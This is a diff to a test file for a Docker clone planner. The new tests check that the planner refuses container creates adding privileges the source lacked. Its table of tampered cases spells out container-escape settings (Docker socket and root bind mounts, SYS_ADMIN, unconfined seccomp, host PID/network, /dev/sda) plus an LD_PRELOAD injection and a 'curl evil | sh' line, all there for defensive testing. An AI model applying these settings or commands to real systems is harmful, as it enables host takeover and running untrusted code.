@@ -3,7 +3,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { planClone, UnsupportedContainerError } from '../../../controller/adapters/docker/clone-config.js';
+import { planClone, unclonedPowers, UnsupportedContainerError } from '../../../controller/adapters/docker/clone-config.js';
 import type { CloneRequest, SourceContainer } from '../../../controller/adapters/docker/clone-config.js';
 
 const fixture = JSON.parse(
@@ -23,7 +23,8 @@ const request: CloneRequest = {
   targetName: 'api',
   expectedVariant: 'baseline',
   strategy: 'recreate',
-  image: 'img:tag',
+  // The container's own image: a create from any other is refused (unclonedPowers).
+  image: fixture.Config.Image,
   name: 'api-1',
 };
 
@@ -74,7 +75,7 @@ describe('planClone', () => {
     const create = planClone(source(), request).create;
     expect(create).toMatchObject({
       name: 'api-1',
-      Image: 'img:tag',
+      Image: fixture.Config.Image,
       Cmd: fixture.Config.Cmd,
       Entrypoint: fixture.Config.Entrypoint,
       User: '1000:1000',
@@ -184,5 +185,47 @@ describe('planClone', () => {
     const plan = planClone(withVar, { ...request, value: null, expectedVariant: 'ml' });
     expect(plan.create.Env).toEqual(['A=1', 'B=2']);
     expect(JSON.stringify(fixture)).toBe(before);
+  });
+});
+
+describe('what the actuator refuses to create: powers it did not clone', () => {
+  it('a privileged, host-mounted container is cloned as it is (nothing new)', () => {
+    const privileged = source((s) => {
+      s.HostConfig.Privileged = true;
+      s.HostConfig.Binds = [...(s.HostConfig.Binds ?? []), '/etc/ssl:/host-ssl:ro'];
+      s.HostConfig.CapAdd = ['NET_ADMIN'];
+    });
+    const plan = planClone(privileged, request);
+    expect(plan.create.HostConfig).toMatchObject({ Privileged: true, CapAdd: ['NET_ADMIN'] });
+    expect(plan.create.HostConfig?.Binds).toContain('/etc/ssl:/host-ssl:ro');
+    expect(unclonedPowers(privileged, plan.create, 'MODEL_VARIANT')).toEqual([]);
+  });
+
+  const faithful = planClone(source(), request).create;
+  const tampered = (change: (c: typeof faithful) => void) => {
+    const copy = structuredClone(faithful);
+    change(copy);
+    return unclonedPowers(source(), copy, 'MODEL_VARIANT');
+  };
+
+  it.each([
+    ['privileged', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Privileged: true }), ['privileged']],
+    ['a host path bind (the Docker socket)', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Binds: [...(c.HostConfig?.Binds ?? []), '/var/run/docker.sock:/var/run/docker.sock'] }), ['bind /var/run/docker.sock:/var/run/docker.sock']],
+    ['a bind mount of /', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Mounts: [...(c.HostConfig?.Mounts ?? []), { Type: 'bind', Source: '/', Target: '/host' }] }), ['bind mount /:/host']],
+    ['a capability', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, CapAdd: [...(c.HostConfig?.CapAdd ?? []), 'SYS_ADMIN'] }), ['capability SYS_ADMIN']],
+    ['an unconfined seccomp profile', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, SecurityOpt: ['seccomp=unconfined'] }), ['security option seccomp=unconfined']],
+    ['a device', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }] }), ['device {"PathOnHost":"/dev/sda","PathInContainer":"/dev/sda","CgroupPermissions":"rwm"}']],
+    ['the host network', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, NetworkMode: 'host' }), ['NetworkMode host']],
+    ['the host PID namespace', (c: typeof faithful) => void (c.HostConfig = { ...c.HostConfig, PidMode: 'host' }), ['PidMode host']],
+    ['another image', (c: typeof faithful) => void (c.Image = 'alpine:latest'), ['image alpine:latest is not the container\'s own']],
+    ['another command', (c: typeof faithful) => void (c.Cmd = ['sh', '-c', 'curl evil | sh']), ['the command differs']],
+    ['another environment variable', (c: typeof faithful) => void (c.Env = [...(c.Env ?? []), 'LD_PRELOAD=/tmp/x.so']), ['an environment variable other than MODEL_VARIANT differs']],
+  ])('refuses %s', (_name, change, expected) => {
+    expect(tampered(change)).toEqual(expected);
+  });
+
+  it('planClone itself refuses such a plan before anything is created (as GR_ERR_TARGET_UNSUPPORTED)', () => {
+    expect(() => planClone(source(), { ...request, image: 'alpine:latest' })).toThrow(UnsupportedContainerError);
+    expect(() => planClone(source(), { ...request, image: 'alpine:latest' })).toThrow(/refusing a create the actuator did not clone from .*: image alpine:latest is not the container's own/);
   });
 });
